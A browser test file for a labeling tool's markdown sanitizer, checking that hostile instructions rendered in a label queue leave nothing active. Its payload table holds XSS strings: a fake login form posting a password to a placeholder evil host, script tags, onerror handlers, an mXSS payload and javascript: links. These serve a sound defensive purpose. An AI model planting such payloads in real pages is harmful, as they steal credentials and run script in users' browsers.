// Hostile instructions in real Chromium: each payload is rendered inside a real <label-queue> on a
// real project, and the shadow DOM is inspected for what a project author must not be able to plant
// in a labeler's page.
import { expect } from '@esm-bundle/chai';
import { demoProject } from '../../test/demo-project.js';
import '../label-queue/label-queue.js';
import { LabelQueueHarness } from '../label-queue/label-queue.harness.js';
import { renderMarkdown } from './markdown.js';

const pwned = () => (window as { __pwned?: unknown }).__pwned;

async function mountWith(instructions: string): Promise<HTMLElement> {
  const demo = await demoProject({ instructions });
  const el = document.createElement('label-queue');
  el.project = demo.project;
  el.source = demo.source as typeof el.source;
  document.body.append(el);
  const h = new LabelQueueHarness(el, { press: async () => undefined });
  await h.ready();
  const md = h.part('instructions');
  expect(md, 'the instructions panel').to.not.equal(null);
  return md!;
}

const FORBIDDEN = 'form, input, button, textarea, select, option, iframe, object, embed, style, script, svg, math, link, meta, base, [style], [id], [name]';

function expectInert(md: Element): void {
  expect([...md.querySelectorAll(FORBIDDEN)].map((e) => e.outerHTML.slice(0, 80))).to.deep.equal([]);
  for (const el of md.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) expect(attr.startsWith('on'), `${el.tagName} ${attr}`).to.equal(false);
  }
  for (const a of md.querySelectorAll('a')) {
    expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
    expect(a.getAttribute('target')).to.equal('_blank');
  }
}

const PAYLOADS: Record<string, string> = {
  'a working form': '<form action="https://evil.invalid/collect"><input type="password" name="pw"><button>Log in</button></form>',
  'an iframe, object and embed': '<iframe src="https://evil.invalid/"></iframe><object data="https://evil.invalid/x"></object><embed src="https://evil.invalid/y">',
  'a style element and style attributes': '<style>:host { display: none }</style><p style="position:fixed;inset:0">cover</p>',
  'svg and math': '<svg><a href="javascript:alert(1)"><text>x</text></a><script>window.__pwned=1</script></svg><math><mi>x</mi></math>',
  'event handlers and scripts': '<img src=x onerror="window.__pwned=2"><script>window.__pwned=3</script><a href="#" onclick="window.__pwned=4">go</a>',
  'the mXSS payload': '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=5">',
  'a textarea and select': '<textarea>type here</textarea><select><option>a</option></select>',
};

describe('instructions markdown (allow-list)', () => {
  afterEach(() => document.querySelectorAll('label-queue').forEach((e) => e.remove()));

  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`${name}: nothing active survives, and the text after it still renders`, async () => {
      const md = await mountWith(`# Before\n\n${payload}\n\nTRAILING **text** survives.\n`);
      expectInert(md);
      expect(md.querySelector('h1')?.textContent).to.equal('Before');
      expect(md.textContent).to.contain('TRAILING text survives.');
      expect(md.querySelector('strong')?.textContent).to.equal('text');
      expect(pwned()).to.equal(undefined);
    });
  }

  it('the mXSS payload cannot swallow the paragraph, heading and list after it', async () => {
    const md = await mountWith('<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=6">\n\nAfter one.\n\n## After two\n\n- three');
    expectInert(md);
    expect(md.textContent).to.contain('After one.');
    expect(md.querySelector('h2')?.textContent).to.equal('After two');
    expect(md.querySelector('li')?.textContent).to.equal('three');
    await new Promise((r) => requestAnimationFrame(() => r(undefined)));
    expect(pwned()).to.equal(undefined);
  });

  it('links: http, https, mailto and relative keep their href; javascript:, data: and others lose it', async () => {
    const md = await mountWith(
      [
        '[web](https://example.com/a) [plain](http://example.com/b) [mail](mailto:a@example.com) [rel](docs/guide.html)',
        '[js](javascript:alert(1)) <a href="java&#9;script:alert(1)">tab</a> [data](data:text/html,hi) [vb](vbscript:x) [file](file:///etc/passwd)',
      ].join('\n\n'),
    );
    expectInert(md);
    const hrefs = Object.fromEntries([...md.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]));
    expect(hrefs).to.deep.equal({
      web: 'https://example.com/a',
      plain: 'http://example.com/b',
      mail: 'mailto:a@example.com',
      rel: 'docs/guide.html',
      js: null,
      tab: null,
      data: null,
      vb: null,
      file: null,
    });
  });

  it('images: https, http, data:image, blob and relative load; other schemes do not', async () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    const md = await mountWith(
      `![a](https://example.com/a.png) ![b](http://example.com/b.png) ![c](${png}) ![d](blob:https://example.com/1234) ![e](img/e.png) ![f](data:text/html,x) ![g](javascript:alert(1))`,
    );
    expectInert(md);
    const srcs = Object.fromEntries([...md.querySelectorAll('img')].map((i) => [i.alt, i.getAttribute('src')]));
    expect(srcs).to.deep.equal({ a: 'https://example.com/a.png', b: 'http://example.com/b.png', c: png, d: 'blob:https://example.com/1234', e: 'img/e.png', f: null, g: null });
    for (const img of md.querySelectorAll('img')) expect(img.getAttribute('referrerpolicy')).to.equal('no-referrer');
  });

  it('keeps the markdown a labeler needs: emphasis, strike, lists, quotes, code, tables, rules', () => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown(
      '## Boxes\n\n*tight* **boxes**, ~~loose~~\n\n1. one\n2. two\n\n> note\n\n`code`\n\n```\npre\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n---\nline  \nbreak',
    );
    for (const tag of ['h2', 'em', 'strong', 'del', 'ol', 'li', 'blockquote', 'code', 'pre', 'table', 'thead', 'tbody', 'th', 'td', 'hr', 'br']) {
      expect(host.querySelector(tag), tag).to.not.equal(null);
    }
    expect(host.querySelector('th')!.getAttribute('align')).to.equal('left');
  });

  it('leaves a host page’s own DOMPurify alone (the hook lives on a private instance)', async () => {
    const { default: DOMPurify } = await import('dompurify');
    renderMarkdown('[x](https://example.com)');
    expect(DOMPurify.sanitize('<a href="https://example.com">x</a>')).to.equal('<a href="https://example.com">x</a>');
  });
});
